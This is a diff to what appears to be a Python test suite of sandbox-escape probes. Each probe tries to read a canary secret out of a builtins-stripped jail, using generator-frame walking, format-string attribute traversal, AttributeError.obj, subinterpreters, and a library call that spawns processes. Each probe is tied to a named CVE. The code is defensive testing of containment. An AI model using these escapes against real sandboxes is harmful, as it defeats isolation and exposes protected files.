@@ -8,6 +8,10 @@ from __future__ import annotations
 
 from .toolkit import Canary, must, probe
 
+TYPE_CHECKING = False
+if TYPE_CHECKING:
+    from types import FrameType
+
 JAIL: dict[str, object] = {"__builtins__": {}}  # eval and exec in it have no builtins
 
 
@@ -34,22 +38,20 @@ def frame_of_a_generator(canary: Canary) -> object:
     code = "def g():\n yield h.gi_frame.f_back.f_back\nh = g()\nframe = [x for x in h][0]\n"
     names: dict[str, object] = dict(JAIL)
     exec(code, names)
-    frame = names["frame"]
-    while frame is not None and "open" not in frame.f_builtins:  # type: ignore[attr-defined]  # -- a frame
-        frame = frame.f_back  # type: ignore[attr-defined]  # -- likewise
-    return frame.f_builtins["open"](canary.secret).read()  # type: ignore[union-attr]  # -- likewise
+    frame: FrameType | None = names["frame"]  # type: ignore[assignment]  # -- made in the jail
+    while frame is not None and "open" not in frame.f_builtins:
+        frame = frame.f_back
+    must(frame is not None)
+    return frame.f_builtins["open"](canary.secret).read()  # type: ignore[union-attr]  # -- checked
 
 
-@probe("fs.read", "CVE-2023-41039 (RestrictedPython), CVE-2016-10745 (jinja2): str.format")
+@probe("fs.read", "CVE-2023-41039 (RestrictedPython), CVE-2025-24359 (asteval), CVE-2016-10745 (jinja2)")
 def fields_of_a_format(canary: Canary) -> object:
     """Reach a module by the attributes and items that a format string names."""
     import string
 
-    found, _ = string.Formatter().get_field("0.__init__.__globals__[_string]", (string.Formatter(),), {})
-    must(found)
-    import os
-
-    return read_by(string.Formatter().get_field("0.sys", (os,), {})[0].modules["posix"], canary.secret)
+    way = "0.vformat.__globals__[_re].enum.sys.modules[posix]"
+    return read_by(string.Formatter().get_field(way, (string.Formatter(),), {})[0], canary.secret)
 
 
 @probe("fs.read", "CVE-2024-47532 (RestrictedPython), CVE-2026-0863 (n8n): AttributeError.obj")
@@ -64,7 +66,7 @@ def object_of_an_error(canary: Canary) -> object:
     try:
         Guarded().ask("canary")
     except AttributeError as error:
-        return read_by(error.obj, canary.secret)  # type: ignore[attr-defined]  # -- Python 3.10
+        return read_by(error.obj, canary.secret)  # since Python 3.10
     return "no error"
 
 
@@ -155,8 +157,10 @@ def another_interpreter(canary: Canary) -> object:
     import importlib
     import os
 
-    names = ("_interpreters", "_xxsubinterpreters")
-    module = next(importlib.import_module(name) for name in names if importlib.util.find_spec(name))
+    try:
+        module = importlib.import_module("_interpreters")
+    except ImportError:
+        module = importlib.import_module("_xxsubinterpreters")  # before Python 3.13
     reader, writer = os.pipe()
     number = module.create()
     module.run_string(number, f"import os; os.write({writer}, open({canary.secret!r}, 'rb').read())")
@@ -243,3 +247,11 @@ def request_of_a_library(canary: Canary) -> object:
     made = socket.create_connection(("localhost", canary.port), 2)
     made.settimeout(2)
     return made.recv(200)
+
+
+@probe("proc.spawn", "build123d-mcp#314: an import that an allowed package makes later; privilege.md §5.3")
+def import_of_an_allowed_package(canary: Canary) -> None:
+    """Let an allowed function start programs on the side: find_library runs ldconfig or a compiler."""
+    import ctypes.util
+
+    must(ctypes.util.find_library("c"), "it found nothing")
